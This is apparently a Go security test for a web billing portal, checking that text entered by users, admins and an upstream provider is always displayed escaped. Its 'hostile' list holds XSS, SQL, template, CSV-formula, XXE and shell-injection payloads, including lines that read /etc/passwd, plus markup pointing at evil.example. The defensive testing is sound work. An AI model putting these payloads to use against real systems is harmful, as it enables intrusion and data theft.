package handlers_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/PuerkitoBio/goquery"

	"counterfoil/twin/server"
)

// hostile are texts that break out of some place where text is shown. Each would leave an
// element xss, an attribute onxss, or a link that runs something.
var hostile = []string{
	`<xss>`, `</title><xss>`, `</textarea><xss>`, `</script><xss>`, `</style><xss>`, `--><xss>`, `]]><xss>`, `<svg/onxss=1>`, `<img src=x onxss=1>`, `<a href="javascript:xss">x</a>`,
	`"><xss>`, `'><xss>`, `" onxss="1`, `' onxss='1`, "` onxss=`1", `"/onxss="1`, `x" autofocus onxss=1 y="`, `&lt;xss&gt;`, `&#60;xss&#62;`, `%3Cxss%3E`,
	`\u003cxss\u003e`, `\x3cxss\x3e`, `javascript:xss`, `{{constructor.constructor('xss')()}}`, `${xss}`, `#{xss}`, `<%= xss %>`, `{{.Name}}`, `{{template "x"}}`, `%s%n%d%v`,
	`%!d(string=x)`, `' OR 1=1 --`, `'; DROP TABLE users; --`, `") OR ("1"="1`, `*/ SELECT 1 /*`, `=cmd|' /C calc'!A0`, `+1+1`, `-1+1`, `@SUM(1)`, "\u202egnp.exe",
	"\u2066x\u2069", `<!--#exec cmd="x"-->`, `<?xml version="1.0"?><xss/>`, `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>`, `$(touch /tmp/x)`, "`id`", `; ls`, `| cat /etc/passwd`, `../../etc/passwd`,
	`hx-get="//evil.example" hx-trigger="load"`, `<p hx-get="//evil.example" hx-trigger=load>`, `<form action=//evil.example>`, `<base href=//evil.example>`, `<meta http-equiv=refresh content="0;//evil.example">`,
	`<link rel=stylesheet href=//evil.example>`, `<iframe srcdoc="<xss>">`, `<math><xss>`, `<template><xss>`, `<noscript><xss>`, `ﬁ＜xss＞`, "\ufeff<xss>",
}

// harmless fails when a page has anything that only one of the hostile texts can have
// brought.
func harmless(t *testing.T, where string, doc *goquery.Document) {
	t.Helper()
	for _, selector := range []string{
		"xss", "[onxss]", "script:not([src])", "style", "iframe", "object", "embed", "base", "template", "math", `meta[http-equiv]`, `link[href*="evil"]`,
		`[href*="evil"]`, `[src*="evil"]`, `[action*="evil"]`, `[hx-get]`, `[autofocus][y]`,
	} {
		if found := doc.Find(selector); found.Length() > 0 {
			html, _ := goquery.OuterHtml(found.First())
			t.Errorf("%s: a text became %s: %.300s", where, selector, html)
		}
	}
	doc.Find("*").Each(func(_ int, node *goquery.Selection) {
		for _, a := range node.Nodes[0].Attr {
			value := strings.ToLower(strings.TrimSpace(a.Val))
			if strings.HasPrefix(a.Key, "on") || strings.HasPrefix(value, "javascript:") && (a.Key == "href" || a.Key == "src" || a.Key == "action") {
				t.Errorf("%s: a text became an attribute: %s=%.100q", where, a.Key, a.Val)
			}
		}
	})
}

// TestTextStaysText (SEC-10): whatever people, the provider and other servers write into
// any field, every page that shows it shows text.
func TestTextStaysText(t *testing.T) {
	o := openOffice(t)
	noise := strings.Join(hostile, " ")
	o.hostileProvider(noise)
	o.workUntil(func() bool {
		products := o.rows("products")
		return strings.Count(products, "<xss> ") >= strings.Count(products, "\n") && o.still()
	})
	shown := 0
	look := func(b *browser, path string) {
		t.Helper()
		page := b.get(path)
		if page.status >= http.StatusInternalServerError {
			t.Errorf("GET %s answered %d", path, page.status)
		}
		harmless(t, "GET "+path, page.Document)
		if strings.Contains(page.Text(), "<xss>") {
			shown++
		}
	}
	for i, text := range hostile {
		if i%20 == 0 {
			o.later(time.Minute) // nothing is refused for haste
		}
		o.sam.post("/account", url.Values{"name": {text}})
		form := url.Values{"event": {"ai_usage"}, "event_id": {fmt.Sprintf("0190d2d2-4444-7333-8333-%012d", i)}, "key": {"credits", "note", cut(text, 40)}, "value": {"1", text, text}}
		o.sam.post("/usage/events", form)
		look(o.sam, "/account?done="+url.QueryEscape(text))
		look(o.sam, "/login?next="+url.QueryEscape(text))
		o.olive.post("/admin/keys", url.Values{"name": {cut(text, 100)}, "days": {"30"}, "scope": {"events:write"}})
		key := o.olive.post("/admin/keys", url.Values{"name": {text}, "days": {"30"}, "scope": {text}})
		harmless(t, "POST /admin/keys", key.Document)
		use := o.sam.post("/usage/events", url.Values{"event": {text}, "event_id": {text}, "key": {text}, "value": {text}})
		harmless(t, "POST /usage/events", use.Document)
		if key.status == http.StatusTooManyRequests || use.status == http.StatusTooManyRequests {
			t.Fatalf("form %d was refused for haste: the text was not shown", i)
		}
	}
	o.sam.post("/account", url.Values{"name": {"<xss> & Sons"}})
	for _, path := range []string{
		"/", "/plans", "/portal", "/portal/subscriptions", "/portal/orders", "/portal/benefits", "/usage", "/credits", "/account",
	} {
		look(o.sam, path)
	}
	for _, link := range []string{`a[href^="/portal/orders/"]`, `a[href^="/portal/subscriptions/"]`} {
		list := "/portal/" + strings.Split(link, "/")[2]
		if href := o.sam.get(list).Find(link).First().AttrOr("href", ""); href != "" {
			look(o.sam, href)
		}
	}
	if href := o.sam.get("/usage").Find("article[data-meter] h3 a").First().AttrOr("href", ""); href != "" {
		look(o.sam, href)
	}
	for _, path := range append(adminPages, "/admin/keys", "/admin/deliveries?type="+url.QueryEscape(`"><xss>`)) {
		look(o.olive, path)
	}
	if shown < 10 {
		t.Errorf("only %d pages showed a hostile text: the others prove nothing", shown)
	}
}

func cut(text string, most int) string {
	runes := []rune(text)
	return string(runes[:min(len(runes), most)])
}

// hostileProvider writes texts into the provider's products, as a seller could.
func (o *office) hostileProvider(noise string) {
	o.t.Helper()
	products, err := o.store.Products(o.t.Context())
	if err != nil {
		o.t.Fatal(err)
	}
	for _, product := range products {
		body, err := json.Marshal(map[string]string{"name": "<xss> " + cut(product.Name, 40), "description": cut(noise, 2000)})
		if err != nil {
			o.t.Fatal(err)
		}
		r, err := http.NewRequestWithContext(o.t.Context(), http.MethodPatch, o.twin.BaseURL+"/v1/products/"+product.ProviderID, bytes.NewReader(body))
		if err != nil {
			o.t.Fatal(err)
		}
		r.Header.Set("Content-Type", "application/json")
		r.Header.Set("Authorization", "Bearer "+server.OrganizationToken)
		answer, err := http.DefaultClient.Do(r)
		if err != nil {
			o.t.Fatal(err)
		}
		said, _ := io.ReadAll(answer.Body) // for the message alone
		answer.Body.Close()
		if answer.StatusCode != http.StatusOK {
			o.t.Fatalf("the twin answered %d: %.300s", answer.StatusCode, said)
		}
	}
}
